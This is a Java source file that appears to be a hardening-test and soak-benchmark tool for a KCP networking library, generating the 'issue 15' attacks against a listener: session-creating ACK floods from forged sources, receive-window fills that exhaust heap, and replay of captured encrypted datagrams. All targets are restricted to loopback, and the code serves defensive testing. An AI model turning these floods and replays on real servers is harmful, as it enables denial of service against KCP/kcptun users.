package kcp.net;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

import kcp.core.wire.SegmentHeader;
import kcp.crypto.PacketSealer;

/**
 * The attack traffic of issue 15, as a reusable generator for hardening tests and for {@code bench/soak.sh}:
 *
 * <ul>
 *   <li>{@link #dataless}: one ACK-only (or WASK, WINS) datagram per forged source: each one makes a session
 *       that never dies in the un-hardened listener;</li>
 *   <li>{@link #windowFill}: PUSH sn 1..1023 without sn 0 per forged source, filling the receive window
 *       (about 1.4 MB of heap per source held forever by the un-hardened listener);</li>
 *   <li>{@link #replay}: datagrams captured from a real session ({@link Capture}) replayed from new sources:
 *       CFB + CRC authenticates nothing about time or origin.</li>
 * </ul>
 *
 * Datagrams are sealed with the listener's own cipher and key (the worst case: a stranger who shares the key, as
 * every kcptun user does), plain KCP segments without an FEC header (kcp-go listeners accept those whatever their
 * FEC setting). Delivery goes through a {@link Target}: {@link Target#hook} calls the listener's forged-source
 * hook ({@code KcpListener.deliver}) with addresses 127.0.0.1-3:1..65535 no kernel would produce on loopback;
 * {@link Target#sockets} sends from a pool of real loopback sockets, one source port each. Everything is seeded.
 *
 * <p>Not thread-safe: one generator per thread. Loopback only.
 */
final class HostileTraffic {
    /** kcp-go's receive window default and issue 15's "sn 1..1023". */
    static final int WINDOW_FILL_LAST_SN = 1023;

    private final PacketSealer sealer;
    private final int header;
    private final int trailer;
    private final SplittableRandom random;
    private final byte[] plain = new byte[1500];

    /**
     * Creates a generator that seals like a peer with {@code options}' cipher and key.
     *
     * @param options the target's options (its cipher and key; null cipher = no crypto layer)
     * @param seed    fixes convs and payload bytes
     */
    HostileTraffic(SessionOptions options, long seed) {
        this.sealer = options.newSealer();
        this.header = sealer == null ? 0 : sealer.headerSize();
        this.trailer = sealer == null ? 0 : sealer.trailerSize();
        this.random = new SplittableRandom(seed);
    }

    /** Where attack datagrams go; {@code source} picks the (forged or real) sender. */
    interface Target extends AutoCloseable {
        /**
         * Sends or delivers one datagram (the array may be modified by a hook delivery: it opens in place).
         *
         * @param buf    the datagram at offset 0
         * @param len    its length
         * @param source which sender, 0..n
         */
        void send(byte[] buf, int len, int source) throws IOException;

        @Override
        default void close() throws IOException {
        }

        /** Through the listener's forged-source hook, as from {@link #forgedSource}(source). */
        static Target hook(KcpListener listener) {
            return (buf, len, source) -> listener.deliver(buf, len, forgedSource(source));
        }

        /**
         * From {@code ports} real loopback sockets (source i uses socket i mod ports), to {@code to}.
         *
         * @param to    the listener's address (loopback)
         * @param ports sockets to open, each bound to its own ephemeral port
         */
        static SocketTarget sockets(InetSocketAddress to, int ports) throws IOException {
            return new SocketTarget(to, ports);
        }
    }

    /** {@link Target#sockets}: a pool of real loopback sockets. */
    static final class SocketTarget implements Target {
        private final InetSocketAddress to;
        private final DatagramChannel[] channels;
        private final ByteBuffer out = ByteBuffer.allocate(2048);
        final AtomicLong sent = new AtomicLong();

        SocketTarget(InetSocketAddress to, int ports) throws IOException {
            if (!to.getAddress().isLoopbackAddress()) {
                throw new IllegalArgumentException("attack traffic is for loopback only: " + to);
            }
            this.to = to;
            this.channels = new DatagramChannel[ports];
            try {
                for (int i = 0; i < ports; i++) {
                    channels[i] = DatagramChannel.open().bind(new InetSocketAddress(to.getAddress(), 0));
                }
            } catch (IOException e) {
                close();
                throw e;
            }
        }

        @Override
        public void send(byte[] buf, int len, int source) throws IOException {
            out.clear();
            out.put(buf, 0, len).flip();
            channels[Math.floorMod(source, channels.length)].send(out, to);
            sent.incrementAndGet();
        }

        /** The local address of source i's socket. */
        InetSocketAddress sourceAddress(int source) throws IOException {
            return (InetSocketAddress) channels[Math.floorMod(source, channels.length)].getLocalAddress();
        }

        @Override
        public void close() throws IOException {
            for (DatagramChannel c : channels) {
                if (c != null) {
                    c.close();
                }
            }
        }
    }

    /**
     * Returns forged source number {@code i}: 127.0.0.1..127.0.0.3 (and on), ports 1..65535, so 100,000 indices
     * are 100,000 distinct addresses.
     *
     * @param i the source index, non-negative
     * @return its address
     */
    static InetSocketAddress forgedSource(int i) {
        if (i < 0) {
            throw new IllegalArgumentException("source index must be >= 0: " + i);
        }
        int host = 1 + i / 65535;
        byte[] ip = {127, (byte) (host >>> 16), (byte) (host >>> 8), (byte) host};
        try {
            return new InetSocketAddress(InetAddress.getByAddress(ip), 1 + i % 65535);
        } catch (java.net.UnknownHostException e) {
            throw new IllegalStateException("a 4-byte address is always valid", e);
        }
    }

    /**
     * Writes one sealed datagram holding one data-less segment ({@link SegmentHeader#CMD_ACK}, {@code CMD_WASK} or
     * {@code CMD_WINS}) of conversation {@code conv}.
     *
     * @param buf  receives the datagram at offset 0 (at least 64 bytes)
     * @param conv conversation id
     * @param cmd  82 (ACK), 83 (WASK) or 84 (WINS)
     * @return the datagram length
     */
    int dataless(byte[] buf, int conv, int cmd) {
        if (cmd != SegmentHeader.CMD_ACK && cmd != SegmentHeader.CMD_WASK && cmd != SegmentHeader.CMD_WINS) {
            throw new IllegalArgumentException("cmd must be ACK (82), WASK (83) or WINS (84): " + cmd);
        }
        // an ACK acknowledges some sn at some ts, like a real one would; WASK/WINS carry no sn of interest
        SegmentHeader.put(plain, 0, conv, cmd, 0, 1024, random.nextInt(), random.nextInt(1 << 16), 0, 0);
        return seal(buf, SegmentHeader.OVERHEAD);
    }

    /**
     * Writes one sealed PUSH segment with {@code payload} random bytes.
     *
     * @param buf     receives the datagram at offset 0 (1500 bytes are always enough)
     * @param conv    conversation id
     * @param sn      sequence number
     * @param payload data bytes, 0..1400 minus the crypto overhead
     * @return the datagram length
     */
    int push(byte[] buf, int conv, int sn, int payload) {
        int max = 1400 - header - trailer - SegmentHeader.OVERHEAD;
        if (payload < 0 || payload > max) {
            throw new IllegalArgumentException("payload must be in [0, " + max + "]: " + payload);
        }
        SegmentHeader.put(plain, 0, conv, SegmentHeader.CMD_PUSH, 0, 1024, 0, sn, 0, payload);
        for (int i = 0; i < payload; i++) {
            plain[SegmentHeader.OVERHEAD + i] = (byte) random.nextInt(256);
        }
        return seal(buf, SegmentHeader.OVERHEAD + payload);
    }

    private int seal(byte[] buf, int plainLen) {
        System.arraycopy(plain, 0, buf, header, plainLen);
        return sealer == null ? plainLen : sealer.seal(buf, 0, plainLen);
    }

    /** A fresh random conversation id (never 0, so it differs from a default-conv client). */
    int conv() {
        int c;
        do {
            c = random.nextInt();
        } while (c == 0);
        return c;
    }

    /**
     * Issue 15 attack 2a: one data-less datagram from each of {@code sources} sources (source indices
     * {@code first..first+sources-1}), each with its own conv.
     *
     * @return datagrams sent
     */
    long dataless(Target t, int first, int sources, int cmd, Pacer pacer) throws IOException {
        byte[] buf = new byte[1500];
        for (int s = first; s < first + sources; s++) {
            pacer.await();
            t.send(buf, dataless(buf, conv(), cmd), s);
        }
        return sources;
    }

    /**
     * Issue 15 attack 2b: from each source, PUSH sn 1..{@code lastSn} (never sn 0) with {@code payload} bytes each,
     * all of one conv per source.
     *
     * @return datagrams sent
     */
    long windowFill(Target t, int first, int sources, int lastSn, int payload, Pacer pacer) throws IOException {
        byte[] buf = new byte[1500];
        long n = 0;
        for (int s = first; s < first + sources; s++) {
            int conv = conv();
            for (int sn = 1; sn <= lastSn; sn++) {
                pacer.await();
                t.send(buf, push(buf, conv, sn, payload), s);
                n++;
            }
        }
        return n;
    }

    /**
     * Issue 15 attack 2c: every captured datagram again, from each of {@code sources} new sources, byte-identical.
     *
     * @return datagrams sent
     */
    static long replay(Target t, List<byte[]> captured, int first, int sources, Pacer pacer) throws IOException {
        byte[] buf = new byte[2048];
        long n = 0;
        for (int s = first; s < first + sources; s++) {
            for (byte[] d : captured) {
                pacer.await();
                System.arraycopy(d, 0, buf, 0, d.length); // a hook delivery decrypts buf in place
                t.send(buf, d.length, s);
                n++;
            }
        }
        return n;
    }

    /** Bounds a send rate: {@link #await} returns at most {@code perSecond} times a second (0 = unbounded). */
    static final class Pacer {
        private final long intervalNanos;
        private long next = System.nanoTime();

        Pacer(int perSecond) {
            this.intervalNanos = perSecond <= 0 ? 0 : 1_000_000_000L / perSecond;
        }

        static Pacer unbounded() {
            return new Pacer(0);
        }

        void await() {
            if (intervalNanos == 0) {
                return;
            }
            next += intervalNanos;
            long wait = next - System.nanoTime();
            if (wait > 0) {
                java.util.concurrent.locks.LockSupport.parkNanos(wait); // pacing, not waiting for state
            } else if (wait < -100_000_000L) {
                next = System.nanoTime(); // fell far behind: do not burst to catch up
            }
        }
    }

    /**
     * A loopback UDP hop that records what a real client sends (up to {@code max} datagrams, copied) and relays
     * both ways, for one client: dial {@link #address()} instead of the server. What it records is what an
     * on-path attacker captures.
     */
    static final class Capture implements AutoCloseable {
        private final DatagramChannel channel;
        private final InetSocketAddress server;
        private final int max;
        private final ConcurrentLinkedQueue<byte[]> captured = new ConcurrentLinkedQueue<>();
        private final AtomicInteger count = new AtomicInteger();
        private final Thread thread;
        private volatile boolean closed;
        private InetSocketAddress client;

        Capture(InetSocketAddress server, int max) throws IOException {
            if (!server.getAddress().isLoopbackAddress()) {
                throw new IllegalArgumentException("capture is for loopback only: " + server);
            }
            this.server = server;
            this.max = max;
            this.channel = DatagramChannel.open().bind(new InetSocketAddress(server.getAddress(), 0));
            this.thread = Thread.ofPlatform().name("capture").daemon(true).start(this::run);
        }

        InetSocketAddress address() throws IOException {
            return (InetSocketAddress) channel.getLocalAddress();
        }

        private void run() {
            ByteBuffer b = ByteBuffer.allocate(2048);
            try {
                while (!closed) {
                    b.clear();
                    InetSocketAddress from = (InetSocketAddress) channel.receive(b);
                    b.flip();
                    if (server.equals(from)) {
                        if (client != null) {
                            channel.send(b, client);
                        }
                        continue;
                    }
                    client = from;
                    if (count.get() < max) {
                        count.incrementAndGet(); // one writer: this thread
                        captured.add(Arrays.copyOf(b.array(), b.limit()));
                    }
                    channel.send(b, server);
                }
            } catch (IOException e) {
                if (!closed) {
                    throw new IllegalStateException("capture relay failed", e);
                }
            }
        }

        /** Copies of the client's datagrams so far, in arrival order. */
        List<byte[]> clientDatagrams() {
            return List.copyOf(captured);
        }

        @Override
        public void close() throws IOException, InterruptedException {
            closed = true;
            channel.close();
            thread.join(2000);
        }
    }

    /**
     * Captures a real session's client-to-server datagrams: dials {@code server} through a {@link Capture} with
     * {@code options}, echoes {@code bytes} bytes (the server must echo) and closes.
     *
     * @return the captured datagrams (the first one carries sn 0)
     */
    static List<byte[]> captureEcho(InetSocketAddress server, SessionOptions options, int bytes, int max)
            throws IOException, InterruptedException {
        try (Capture cap = new Capture(server, max)) {
            try (KcpSession c = Kcps.dial(cap.address(), options)) {
                c.setReadTimeout(Duration.ofSeconds(10));
                byte[] data = new byte[bytes];
                new SplittableRandom(bytes).nextBytes(data);
                c.write(data, 0, data.length);
                byte[] got = new byte[bytes];
                int off = 0;
                while (off < bytes) {
                    int n = c.read(got, off, bytes - off);
                    if (n < 0) {
                        throw new IOException("server closed before echoing " + bytes + " bytes");
                    }
                    off += n;
                }
                if (!Arrays.equals(data, got)) {
                    throw new IOException("echo differs: the capture relay corrupted a datagram");
                }
            } catch (SocketTimeoutException e) {
                throw new IOException("no echo through the capture relay within 10 s", e);
            }
            return cap.clientDatagrams();
        }
    }

    /**
     * {@code bench/soak.sh}'s attacker: for {@code --seconds}, one round every {@code --round-seconds} (10) of
     * (1) data-less ACK or WASK datagrams from {@code --ports} (32) new real source ports, (2) a window fill
     * (sn 1..1023, 1000 bytes each) from {@code --fill-sources} (1) new ports, (3) the captured client datagrams of
     * one 8 KiB echo session replayed from {@code --ports} new ports; at most {@code --rate} (2000) datagrams per
     * second, loopback only. Prints one {@code ATTACK} line per round and {@code RESULT} at the end.
     *
     * <pre>
     * java -cp ... kcp.net.HostileTraffic --target 127.0.0.1:29900 --crypt aes --key K --seconds 300 --rate 2000
     * </pre>
     */
    public static void main(String[] args) throws Exception {
        String target = "127.0.0.1:29900";
        String crypt = "aes";
        String key = "it's a secrect";
        long seconds = 60;
        int rate = 2000;
        int ports = 32;
        int fillSources = 1;
        long roundSeconds = 10;
        for (int i = 0; i + 1 < args.length; i += 2) {
            switch (args[i]) {
                case "--target" -> target = args[i + 1];
                case "--crypt" -> crypt = args[i + 1];
                case "--key" -> key = args[i + 1];
                case "--seconds" -> seconds = Long.parseLong(args[i + 1]);
                case "--rate" -> rate = Integer.parseInt(args[i + 1]);
                case "--ports" -> ports = Integer.parseInt(args[i + 1]);
                case "--fill-sources" -> fillSources = Integer.parseInt(args[i + 1]);
                case "--round-seconds" -> roundSeconds = Long.parseLong(args[i + 1]);
                default -> throw new IllegalArgumentException("unknown flag " + args[i]
                        + ": use --target --crypt --key --seconds --rate --ports --fill-sources --round-seconds");
            }
        }
        int colon = target.lastIndexOf(':');
        InetSocketAddress to = new InetSocketAddress(InetAddress.getByName(target.substring(0, colon)),
                Integer.parseInt(target.substring(colon + 1)));
        if (!to.getAddress().isLoopbackAddress()) {
            throw new IllegalArgumentException("attack traffic is for loopback only: " + to);
        }
        SessionOptions.Builder b = SessionOptions.builder().mode(KcpMode.FAST).windowSize(1024, 1024).fec(10, 3);
        if (!"null".equals(crypt)) {
            b.cipherWithPassphrase(crypt, key);
        }
        SessionOptions options = b.build();
        HostileTraffic gen = new HostileTraffic(options, 15);
        Pacer pacer = new Pacer(rate);
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
        long total = 0;
        int round = 0;
        List<byte[]> captured = captureEcho(to, options, 8 * 1024, 64);
        while (System.nanoTime() - end < 0) {
            long roundEnd = System.nanoTime() + TimeUnit.SECONDS.toNanos(roundSeconds);
            round++;
            long n = 0;
            try (SocketTarget t = Target.sockets(to, ports)) {
                n += gen.dataless(t, 0, ports, round % 2 == 0 ? SegmentHeader.CMD_ACK : SegmentHeader.CMD_WASK, pacer);
            }
            try (SocketTarget t = Target.sockets(to, fillSources)) {
                n += gen.windowFill(t, 0, fillSources, WINDOW_FILL_LAST_SN, 1000, pacer);
            }
            try (SocketTarget t = Target.sockets(to, ports)) {
                n += replay(t, captured, 0, ports, pacer);
            }
            total += n;
            System.out.println("ATTACK round=" + round + " datagrams=" + n + " total=" + total);
            long rest = Math.min(roundEnd, end) - System.nanoTime();
            if (rest > 0) {
                java.util.concurrent.locks.LockSupport.parkNanos(rest); // pacing between rounds
            }
        }
        System.out.println("RESULT rounds=" + round + " datagrams=" + total);
    }
}
